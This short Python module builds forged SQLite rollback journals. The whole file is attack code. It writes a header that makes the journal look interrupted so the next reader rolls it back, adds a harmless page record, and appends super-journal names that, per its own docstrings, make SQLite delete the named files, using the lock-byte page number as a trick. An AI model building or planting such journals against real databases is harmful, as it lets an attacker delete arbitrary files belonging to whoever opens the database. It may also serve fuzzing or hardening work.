"""Journals of SQLite as nobody should ever have written them. Layout: sqlite.org/fileformat2.html section 3."""

import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512
PAGE = 4096


def journal_header(records=0, pages=0, page_size=PAGE):
    """A header that makes the journal look as if its writer was killed: the next reader has to take the change back."""
    return (MAGIC + struct.pack(">IIIII", records, 0, pages, SECTOR, page_size)).ljust(SECTOR, b"\0")


def record(number, page):
    """What a page held before the change."""
    checksum = sum(page[place] for place in range(len(page) - 200, 0, -200))
    return struct.pack(">I", number) + page + struct.pack(">I", checksum)


def name_of_another_journal(name, page_number=1 + 0x40000000 // PAGE):
    """The end of a journal that belongs to a change over several databases: SQLite deletes the file of that name."""
    checksum = sum(name) & 0xFFFFFFFF
    return struct.pack(">I", page_number) + name + struct.pack(">II", len(name), checksum) + MAGIC


def forged_journal(database, names):
    """For the bytes of a database: nothing is changed by taking it back, and then the files `names` are to go."""
    pages = len(database) // PAGE
    tail = b"".join(name_of_another_journal(name) for name in names)
    return journal_header(1, pages) + record(1, database[:PAGE]) + tail
